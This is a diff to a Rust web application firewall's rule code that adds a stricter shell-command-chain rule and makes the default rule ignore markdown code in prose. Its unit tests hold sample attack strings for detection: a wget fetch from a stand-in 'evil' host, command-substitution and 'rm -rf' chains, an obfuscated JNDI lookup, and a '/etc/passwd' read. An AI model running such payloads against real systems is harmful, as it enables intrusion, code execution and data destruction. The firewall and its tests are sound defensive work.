@@ -32,6 +32,7 @@ pub enum Rule {
     TraversalSystemFileInProse,
     JndiLookup,
     RceShellChain,
+    RceShellChainInCode,
     NosqlOperator,
     NosqlAnyOperator,
     XxeEntity,
@@ -40,7 +41,7 @@ pub enum Rule {
 
 impl Rule {
     /// Every rule, in the order they run.
-    pub const ALL: [Rule; 13] = [
+    pub const ALL: [Rule; 14] = [
         Rule::SqliLibinjection,
         Rule::XssLibinjection,
         Rule::XssScriptUri,
@@ -48,6 +49,7 @@ impl Rule {
         Rule::TraversalDotDot,
         Rule::JndiLookup,
         Rule::RceShellChain,
+        Rule::RceShellChainInCode,
         Rule::TemplateExpression,
         // After the command rule: `; cat /etc/passwd` is named as the command it is.
         Rule::TraversalSystemFile,
@@ -69,6 +71,7 @@ impl Rule {
             Rule::TraversalSystemFileInProse => "traversal-system-file-in-prose",
             Rule::JndiLookup => "jndi-lookup",
             Rule::RceShellChain => "rce-shell-chain",
+            Rule::RceShellChainInCode => "rce-shell-chain-in-code",
             Rule::NosqlOperator => "nosql-operator",
             Rule::NosqlAnyOperator => "nosql-any-operator",
             Rule::XxeEntity => "xxe-external-entity",
@@ -84,7 +87,7 @@ impl Rule {
                 Reason::WafTraversal
             }
             Rule::JndiLookup => Reason::WafJndi,
-            Rule::RceShellChain => Reason::WafRce,
+            Rule::RceShellChain | Rule::RceShellChainInCode => Reason::WafRce,
             Rule::NosqlOperator | Rule::NosqlAnyOperator => Reason::WafNosql,
             Rule::XxeEntity => Reason::WafXxe,
             Rule::TemplateExpression => Reason::WafTemplate,
@@ -95,7 +98,10 @@ impl Rule {
     /// anywhere in prose, any `$`-word as a JSON key or bracketed name).
     pub fn paranoia(self) -> u8 {
         match self {
-            Rule::XssScriptUriAnywhere | Rule::NosqlAnyOperator | Rule::TraversalSystemFileInProse => 2,
+            Rule::XssScriptUriAnywhere
+            | Rule::NosqlAnyOperator
+            | Rule::TraversalSystemFileInProse
+            | Rule::RceShellChainInCode => 2,
             _ => 1,
         }
     }
@@ -126,7 +132,9 @@ impl Rule {
             Rule::TraversalSystemFile => value.split_whitespace().next().is_some_and(system_file),
             Rule::TraversalSystemFileInProse => system_file(value),
             Rule::JndiLookup => jndi(value),
-            Rule::RceShellChain => shell_chain(value),
+            // Markdown code in prose (`` Use `ls -la` to list ``) is text at paranoia 1.
+            Rule::RceShellChain => shell_chain_outside_code(value),
+            Rule::RceShellChainInCode => shell_chain(value),
             Rule::TemplateExpression => template_expression(value),
             Rule::NosqlOperator | Rule::NosqlAnyOperator | Rule::XxeEntity => false,
         }
@@ -145,7 +153,7 @@ impl Rule {
             Rule::TraversalDotDot => shape.any(Shape::DOT),
             Rule::TraversalSystemFile | Rule::TraversalSystemFileInProse => shape.any(Shape::SLASH | Shape::COLON),
             Rule::JndiLookup => shape.any(Shape::DOLLAR) && shape.any(Shape::BRACE),
-            Rule::RceShellChain => shape.any(Shape::SEPARATOR | Shape::DOLLAR),
+            Rule::RceShellChain | Rule::RceShellChainInCode => shape.any(Shape::SEPARATOR | Shape::DOLLAR),
             // `#set(`, `<#assign`, `%{` as well as braces: any punctuation.
             Rule::TemplateExpression => true,
             Rule::NosqlOperator | Rule::NosqlAnyOperator | Rule::XxeEntity => false,
@@ -1316,6 +1324,49 @@ fn shell_word(raw: &str) -> String {
 /// variable, a quote, a URL, a host name; a number for `sleep`). Prose that merely has a
 /// separator before a common word (`Tickets; id required`) does not match.
 fn shell_chain(value: &str) -> bool {
+    shell_chain_reading(value, false)
+}
+
+/// [`shell_chain`] with markdown code in prose left out: a code span whose backquotes
+/// stand between words (`` run `ls -la` now ``) and a fenced block (```` ``` ````) are
+/// text, not command substitutions; a value that is all one backquoted command, or a
+/// backquote after a separator (`` x;`id` ``), is still a substitution.
+fn shell_chain_outside_code(value: &str) -> bool {
+    shell_chain_reading(value, true)
+}
+
+/// Where the markdown code span or fenced block that opens at `bytes[at]` (a backquote)
+/// ends, when it is one (see [`shell_chain_outside_code`]).
+fn markdown_code_end(bytes: &[u8], at: usize) -> Option<usize> {
+    // Only where a run of backquotes starts, and only runs markdown writes (a long run is
+    // no markdown): each run is considered once, and the scan for its close stays linear.
+    if at > 0 && bytes[at - 1] == b'`' {
+        return None;
+    }
+    let run = bytes[at..].iter().take_while(|b| **b == b'`').count();
+    if run > 8 {
+        return None;
+    }
+    let fence = vec![b'`'; run];
+    let body_start = at + run;
+    let close = memchr::memmem::find_iter(&bytes[body_start..], &fence)
+        .map(|c| body_start + c)
+        .find(|&c| bytes.get(c + run) != Some(&b'`') && bytes[c - 1] != b'`')?;
+    let end = close + run;
+    if run >= 3 {
+        return Some(end);
+    }
+    let opens_between_words =
+        at == 0 || bytes[at - 1].is_ascii_whitespace() || matches!(bytes[at - 1], b'(' | b'[' | b'"' | b'\'');
+    let closes_between_words = bytes
+        .get(end)
+        .is_none_or(|b| b.is_ascii_whitespace() || b".,;:!?)]\"'".contains(b));
+    let words_outside =
+        bytes[..at].iter().any(u8::is_ascii_alphanumeric) || bytes[end..].iter().any(u8::is_ascii_alphanumeric);
+    (opens_between_words && closes_between_words && words_outside).then_some(end)
+}
+
+fn shell_chain_reading(value: &str, skip_markdown_code: bool) -> bool {
     const COMMANDS: [&str; 61] = [
         "cat",
         "dash",
@@ -1388,6 +1439,13 @@ fn shell_chain(value: &str) -> bool {
         // After `$(`, `<(`, `>(` or a backquote a command stands for certain (substitution);
         // after `;`, `|`, `&` or a newline it might be prose, and needs an argument's shape.
         let (start, substitution) = match bytes[i] {
+            b'`' if skip_markdown_code => match markdown_code_end(bytes, i) {
+                Some(end) => {
+                    i = end;
+                    continue;
+                }
+                None => (i + 1, true),
+            },
             b'`' => (i + 1, true),
             b'$' | b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => (i + 2, true),
             b';' | b'|' | b'&' | b'\n' => (i + 1, false),
@@ -1525,6 +1583,20 @@ mod tests {
             "3-5 days | curl up with a book",
         ] {
             assert!(!shell_chain(prose), "{prose}");
+        }
+        // Markdown code in prose is text at paranoia 1 (and a command at 2); a value that
+        // is one backquoted command, or a backquote after a separator, is a substitution.
+        for code in [
+            "Use `ls -la` to list; then cat the file",
+            "it's `id` column",
+            "run `ls` now",
+            "```\nls -la\ncat notes.txt\n```",
+        ] {
+            assert!(!shell_chain_outside_code(code), "{code}");
+            assert!(shell_chain(code), "{code}");
+        }
+        for attack in ["`id`", "x;`id`", "`wget evil/x -O /tmp/x`", "a; rm -rf later"] {
+            assert!(shell_chain_outside_code(attack), "{attack}");
         }
         for jndi_attack in [
             "${${lower:${lower:j}}ndi:ldap://x/a}",
